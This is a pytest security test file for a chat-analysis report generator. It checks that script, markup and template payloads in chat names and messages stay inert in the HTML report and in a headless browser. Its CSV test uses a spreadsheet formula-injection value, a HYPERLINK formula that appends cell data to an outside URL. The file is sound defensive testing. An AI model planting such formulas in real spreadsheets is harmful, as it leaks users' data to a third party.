"""The report read from a chat made to hurt its reader: names and messages carry script, markup, a
meta refresh and the report's own template placeholders. Escaping is by construction (markupsafe and a
Jinja2 page) and the page's Content-Security-Policy allows only its own hashed style and script, so:
nothing runs, nothing loads, the text reads as text, and every drill-down still opens."""

from __future__ import annotations

import json
import re
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from tests.fuzz.hostile import MARKUP

from openup.analysis import analyze, write_report
from openup.chats import load_chat

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update"]
# Every payload is used once as the partner's display name.
NAMES = list(MARKUP)


def _export(path: Path, partner: str) -> Path:
    """A JSON-lines export of six weeks with the hostile name and every payload in the messages."""
    rows = []
    start = datetime(2024, 3, 4, 10, 0)
    for week in range(6):
        for k in range(3):
            t = start + timedelta(days=7 * week, hours=k)
            payload = MARKUP[(week * 3 + k) % len(MARKUP)]
            said = [
                (partner, f"I feel so lonely lately, work was awful {payload}"),
                ("Alex", "you should just quit" if week % 2 else "that must have been hard"),
                ("Alex", f"You're so lazy {payload}" if week in (2, 3) else "thank you so much"),
                (partner, f"guess what, I got the job {payload}"),
                ("Alex", "answer me"),
            ]
            for n, (who, text) in enumerate(said):
                when = (t + timedelta(minutes=n)).isoformat()
                rows.append(json.dumps({"timestamp": when, "sender": who, "text": text}))
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


class _Tags(HTMLParser):
    """Every start tag of a page with its attributes, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, attrs))


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> list[tuple[str, Path]]:
    out = []
    for i, name in enumerate(NAMES):
        folder = tmp_path_factory.mktemp(f"xss{i}")
        conv = load_chat(_export(folder / "chat.jsonl", name), me="Alex")
        assert name in conv.participants
        out.append((name, write_report(analyze(conv, me="Alex", model=False), folder / "out")["report"]))
    return out


def test_no_payload_survives_as_markup(reports: list[tuple[str, Path]]) -> None:
    for name, report in reports:
        html = report.read_text(encoding="utf-8")
        assert len(html) < 400_000, name  # a placeholder in a name does not pull the page into itself
        tags = _Tags()
        tags.feed(html)
        # the elements are the report's own: no handler attribute, no image, no refresh, no base, and
        # exactly one inline script (ours), one data block and one style (ours)
        assert not [a for _, attrs in tags.seen for a, _ in attrs if a.startswith("on")], name
        names = [t for t, _ in tags.seen]
        assert "img" not in names and "base" not in names and "iframe" not in names, name
        assert [dict(a).get("http-equiv") for t, a in tags.seen if t == "meta" and dict(a).get("http-equiv")] == [
            "Content-Security-Policy"
        ]
        assert names.count("script") == 2 and names.count("style") == 1, name
        csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html)
        assert csp is not None
        policy = csp.group(1).replace("&#39;", "'")
        assert "unsafe-inline" not in policy and policy.startswith("default-src 'none'")
        data = json.loads(html.split('id="evidence">', 1)[1].split("</script>", 1)[0])
        assert data["names"][1] == name  # the name reaches the script as data, unchanged
        texts = " ".join(m[2] for m in data["msgs"].values())
        assert "/*{{js}}*/" in texts or "{{body}}" in texts or "<img" in texts


@pytest.fixture(scope="module")
def browser():  # type: ignore[no-untyped-def]
    if not CHROMIUM.exists():
        pytest.skip("Debian chromium is not installed at /usr/bin/chromium")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield b
        b.close()


@pytest.mark.browser
@pytest.mark.slow
def test_in_chromium_nothing_runs_or_loads_and_every_drilldown_opens(  # type: ignore[no-untyped-def]
    browser, reports: list[tuple[str, Path]]
) -> None:
    for name, report in reports:
        page = browser.new_page()
        problems: list[str] = []
        requests: list[str] = []
        page.on("console", lambda m, p=problems: p.append(m.text) if m.type in ("error", "warning") else None)
        page.on("pageerror", lambda e, p=problems: p.append(str(e)))
        page.on("request", lambda r, q=requests: q.append(r.url))
        page.on("dialog", lambda d, p=problems: (p.append("dialog: " + d.message), d.dismiss()))
        url = report.resolve().as_uri()
        page.goto(url)
        page.wait_for_load_state("load")
        assert name in page.title(), name
        page.locator("#weekly summary").click()
        keys = page.eval_on_selector_all("button[data-ev]", "els => els.map(e => e.dataset.ev)")
        assert len(keys) > 20, name
        for key in dict.fromkeys(keys):
            page.locator(f'button[data-ev="{key}"]').first.click()
            assert page.locator("#panel").is_visible(), (name, key)
            assert page.locator("#panel .msg").count() >= 1, (name, key)
            page.keyboard.press("Escape")
        # the panel shows the payloads as text
        page.locator('button.num[data-ev="openness.disclosure.1"]').first.click()
        shown = " ".join(page.locator("#panel .msg").all_inner_texts())
        assert any(p in shown for p in MARKUP), name
        assert page.locator("#panel img, #panel svg, #panel script, #panel meta").count() == 0
        page.wait_for_timeout(300)  # a meta refresh of 0 s or an onerror would have fired by now
        assert page.url == url, name
        assert problems == [], (name, problems)
        assert requests == [url], (name, requests)
        page.close()


def test_messages_csv_cannot_run_a_formula(tmp_path: Path) -> None:
    name = '=HYPERLINK("https://example.org/?"&A1,"open")'
    conv = load_chat(_export(tmp_path / "chat.jsonl", name), me="Alex")
    out = write_report(analyze(conv, me="Alex", model=False), tmp_path / "out")
    import csv

    with out["messages"].open(encoding="utf-8") as fh:
        senders = {row["sender"] for row in csv.DictReader(fh)}
    assert senders == {"Alex", "'" + name}
